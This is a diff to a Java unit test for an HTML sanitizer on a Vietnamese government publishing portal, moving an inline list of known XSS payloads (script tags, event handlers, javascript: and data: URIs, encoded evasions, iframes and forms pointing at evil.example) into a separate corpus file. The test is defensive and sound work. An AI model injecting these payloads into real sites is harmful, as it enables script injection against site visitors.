@@ -2,84 +2,20 @@ package vn.govportal.publishing;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-import java.util.Locale;
-import java.util.Set;
-import org.jsoup.Jsoup;
-import org.jsoup.nodes.Attribute;
-import org.jsoup.nodes.Element;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class HtmlSanitizerTest {
 
-    private static final Set<String> ALLOWED_TAGS = Set.of("body", "p", "br", "hr", "h2", "h3", "h4", "h5", "h6",
-            "blockquote", "ul", "ol", "li", "strong", "em", "b", "i", "u", "s", "sub", "sup", "table", "caption",
-            "thead", "tbody", "tfoot", "tr", "th", "td", "a", "img", "figure", "figcaption");
-
-    /** Known XSS payloads (from the OWASP cheat sheet and common filter-evasion lists). */
+    /** Known XSS payloads, in {@code xss-payloads.txt}. */
     @ParameterizedTest
-    @ValueSource(strings = {
-        "<script>alert(1)</script>",
-        "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
-        "<scr<script>ipt>alert(1)</scr</script>ipt>",
-        "<img src=x onerror=alert(1)>",
-        "<img src=\"/tep/1/a.png\" onerror=\"alert(1)\">",
-        "<IMG SRC=\"javascript:alert('XSS');\">",
-        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
-        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
-        "<a href=\"javascript:alert(1)\">bấm</a>",
-        "<a href=\"JAVASCRIPT:alert(1)\">bấm</a>",
-        "<a href=\"jav&#x09;ascript:alert(1)\">bấm</a>",
-        "<a href=\"&#14;  javascript:alert(1)\">bấm</a>",
-        "<a href=\"vbscript:msgbox(1)\">bấm</a>",
-        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">bấm</a>",
-        "<a href=\"https://example.org\" onclick=\"alert(1)\">bấm</a>",
-        "<a href=\"https://example.org\" onmouseover=alert(1)>bấm</a>",
-        "<body onload=alert(1)>",
-        "<svg/onload=alert(1)>",
-        "<svg><script>alert(1)</script></svg>",
-        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-        "<iframe src=\"https://evil.example\"></iframe>",
-        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-        "<object data=\"javascript:alert(1)\"></object>",
-        "<embed src=\"javascript:alert(1)\">",
-        "<form action=\"https://evil.example\"><input name=p><button>Gửi</button></form>",
-        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">lớp phủ</div>",
-        "<p style=\"display:none\">ẩn</p>",
-        "<p style=\"background:url(javascript:alert(1))\">x</p>",
-        "<style>body{display:none}</style>",
-        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
-        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
-        "<base href=\"https://evil.example/\">",
-        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
-        "<td background=\"javascript:alert(1)\">x</td>",
-        "<input type=\"image\" src=\"javascript:alert(1)\">",
-        "<video><source onerror=\"alert(1)\"></video>",
-        "<details open ontoggle=alert(1)>",
-        "<marquee onstart=alert(1)>x</marquee>",
-        "\"><script>alert(1)</script>",
-        "<p title=\"</p><script>alert(1)</script>\">x</p>",
-        "<!--<script>alert(1)</script>-->",
-        "<img src=\"https://evil.example/track.gif\">",
-        "<img src=\"/tep/1/a.png?w=960&amp;next=javascript:alert(1)\">",
-        "<img src=\"/tep/1/a.png?callback=alert\">",
-        "<a href=\"https://example.org\" target=\"_top\" class=\"overlay\" id=\"main\">x</a>",
-    })
+    @MethodSource("vn.govportal.publishing.XssCorpus#payloads")
     void removesEverythingThatCouldRunOrHide(String payload) {
         String clean = HtmlSanitizer.clean("<p>Trước</p>" + payload + "<p>Sau</p>");
 
-        for (Element element : Jsoup.parseBodyFragment(clean).body().getAllElements()) {
-            assertThat(ALLOWED_TAGS).as(clean).contains(element.tagName());
-            for (Attribute attribute : element.attributes()) {
-                assertThat(attribute.getKey()).as(clean).doesNotStartWith("on").isNotIn("style", "class", "id", "target");
-                String value = attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("\\s", "");
-                assertThat(value).as(clean).doesNotContain("javascript:").doesNotContain("vbscript:").doesNotContain("data:");
-            }
-            if (element.tagName().equals("img")) {
-                assertThat(element.attr("src")).as(clean).matches(".*/tep/\\d+/.+");
-            }
-        }
+        XssCorpus.assertHarmless(clean);
         assertThat(clean).startsWith("<p>Trước</p>"); // the text around a payload stays; an unclosed payload may swallow what follows
     }
 
@@ -141,6 +77,16 @@ class HtmlSanitizerTest {
         String once = HtmlSanitizer.clean(html);
 
         assertThat(HtmlSanitizer.clean(once)).isEqualTo(once);
+    }
+
+    @Test
+    void listsFromTheEditorKeepTheirKind() {
+        String quill = "<ol><li data-list=\"bullet\">Một</li><li data-list=\"bullet\">Hai</li>"
+                + "<li data-list=\"ordered\">Bước 1</li></ol><p>Giữa</p><ol><li data-list=\"ordered\">Bước 2</li></ol>";
+
+        assertThat(HtmlSanitizer.clean(quill))
+                .isEqualTo("<ul><li>Một</li><li>Hai</li></ul><ol><li>Bước 1</li></ol><p>Giữa</p><ol><li>Bước 2</li></ol>");
+        assertThat(HtmlSanitizer.clean("<ul><li>Một</li></ul><ol><li>Hai</li></ol>")).isEqualTo("<ul><li>Một</li></ul><ol><li>Hai</li></ol>");
     }
 
     @Test
